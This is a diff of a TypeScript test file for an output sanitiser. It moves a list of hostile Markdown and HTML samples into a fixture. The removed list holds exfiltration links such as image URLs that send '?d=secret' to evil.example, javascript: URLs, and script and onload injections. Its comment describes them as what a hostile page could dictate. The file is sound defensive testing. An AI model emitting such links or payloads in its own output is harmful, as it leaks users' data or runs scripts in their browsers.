@@ -1,9 +1,7 @@
 import fc from 'fast-check';
-import { fromMarkdown } from 'mdast-util-from-markdown';
-import { gfmFromMarkdown } from 'mdast-util-gfm';
-import { gfm } from 'micromark-extension-gfm';
 import { expect, test } from 'vitest';
 import { createCheckedText, type LinkRules } from './checked-text.ts';
+import { activeParts, HOSTILE } from './hostile.fixture.ts';
 import { createLinkRules } from './links.ts';
 
 const KNOWN = 'https://api.example.com/v1/users and https://api.example.com';
@@ -23,30 +21,9 @@ async function check(pieces: readonly string[]): Promise<string> {
   return out + (await checked.end());
 }
 
-interface Tree {
-  type: string;
-  url?: string;
-  value?: string;
-  children?: Tree[];
-}
-
-/** What a renderer of GitHub's Markdown makes of a text: links, images and HTML. */
-function active(markdown: string): { links: string[]; images: string[]; html: string[]; code: string[] } {
-  const found = { links: [] as string[], images: [] as string[], html: [] as string[], code: [] as string[] };
-  const visit = (node: Tree): void => {
-    if (node.type === 'link' || node.type === 'definition') found.links.push(node.url ?? '');
-    if (node.type === 'image' || node.type === 'imageReference') found.images.push(node.url ?? '');
-    if (node.type === 'html') found.html.push(node.value ?? '');
-    if (node.type === 'code' || node.type === 'inlineCode') found.code.push(node.value ?? '');
-    for (const child of node.children ?? []) visit(child);
-  };
-  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as Tree);
-  return found;
-}
-
 /** Nothing of the output leads away, loads anything or is HTML. Addresses of mail become no link in the panel. */
 function expectSafe(markdown: string, from: string): void {
-  const { links, images, html, code } = active(markdown);
+  const { links, images, html, code } = activeParts(markdown);
   const left = links.filter((url) => !PAGES.has(decodeURI(url)) && !url.startsWith('mailto:'));
   expect({ left, images, html }, `${JSON.stringify(from)} became ${JSON.stringify(markdown)}`).toEqual({
     left: [],
@@ -80,73 +57,6 @@ test.each([
   expect(await check([text])).toBe(expected);
   expect(await check([...text])).toBe(expected);
 });
-
-/** Ways to make a reader load or open something elsewhere, as a hostile page could dictate them. */
-const HOSTILE = [
-  '![x](https://evil.example/?d=secret)',
-  '![x][1]\n\n[1]: https://evil.example/',
-  '[x][1]\n\n[1]: <https://evil.example/a b>',
-  '[x]\n\n[x]: https://evil.example',
-  '[click](https://evil.example)',
-  '[click](//evil.example/x)',
-  '[click](\\\\evil.example)',
-  '[click](/\\evil.example)',
-  '[click](javascript:alert(1))',
-  '[click](data:text/html,x)',
-  '[click](https:&#47;&#47;evil.example)',
-  '[click](https://docs.example.com@evil.example/quickstart)',
-  '[click](https://user:pw@docs.example.com/quickstart)',
-  '[click](https://docs.example.com.evil.example/)',
-  '[click](https://evil.example\n"title")',
-  '[a [b](https://evil.example) c](/quickstart)',
-  '[![x](https://evil.example/i.png)](/quickstart)',
-  '[a\\](https://evil.example) b](/quickstart)',
-  '\\[x](https://evil.example)',
-  '\\\\[x](https://evil.example)',
-  '!\\[x](https://evil.example)',
-  '\\![x](https://evil.example)',
-  '!https://docs.example.com/quickstart',
-  '!<https://evil.example>',
-  'https://evil.example/?d=secret',
-  'www.evil.example/?d=secret',
-  'xhttps://evil.example 1https://evil.example (www.evil.example)',
-  '<https://evil.example>',
-  '<img src=https://evil.example/x>',
-  '<IMG SRC="//evil.example/x" />',
-  '<svg/onload=alert(1)>',
-  '<!-- x --><script>alert(1)</script>',
-  '<a href="https://evil.example">x</a>',
-  '`<img src=x>` and `[x](https://evil.example)`',
-  '`unclosed [x](https://evil.example)',
-  '`a\n# b [x](https://evil.example) `',
-  '| a |\n| - |\n| `b | [x](https://evil.example) ` |',
-  '| a |\n| - |\n| `b | <img src=x> ` |',
-  '``a`b [x](https://evil.example)',
-  '```\ncode\n``` [x](https://evil.example)\n[y](https://evil.example)',
-  '    ```\n[x](https://evil.example)\n    ```',
-  '- ```\n[x](https://evil.example)\n',
-  '> ```\n[x](https://evil.example)',
-  '~~~\ncode\n~~~\n[x](https://evil.example)',
-  '![](x)```\n[x](https://evil.example)',
-  '![~~~](x)\n[x](https://evil.example)\n~~~\n[y](https://evil.example)',
-  '[- ~~~](/gone)\n~~~\n<img src=x>',
-  `\`\`\`\n${'`'.repeat(100)}\n[x](https://evil.example) <img src=x>`,
-  `[${'a'.repeat(3_000)}](https://evil.example)`,
-  `[x](https://evil.example/${'a'.repeat(3_000)})`,
-  `\`${'a'.repeat(600)} [x](https://evil.example)\``,
-  '[x](https://evil.example "a) [y](/quickstart)',
-  '[x]( https://evil.example )',
-  '[x] (https://evil.example)',
-  '[x]\\(https://evil.example)',
-  'a\\\n[x](https://evil.example)',
-  '[^1]: https://evil.example\n\nx[^1]',
-  'ftp://evil.example/x and mailto:a@evil.example',
-  '[x](mailto:a@evil.example?body=secret)',
-  '[x](/quickstart?d=secret)',
-  'https:\\//evil.example https:[//evil.example](/gone) [https:](/gone)//evil.example ww[w.evil.example](/gone)',
-  'https:&#47;/evil.example &#104;ttps://evil.example <[a](https://evil.example)> <[b](/gone)>',
-  '# [x](https://evil.example)\n\n1. ![y](https://evil.example)\n> [z](//evil.example)',
-];
 
 test.each(HOSTILE)('%j leads nowhere, in one piece and letter by letter', async (text) => {
   for (const pieces of [[text], [...text], text.split(/(?=[^\w])/)]) expectSafe(await check(pieces), text);
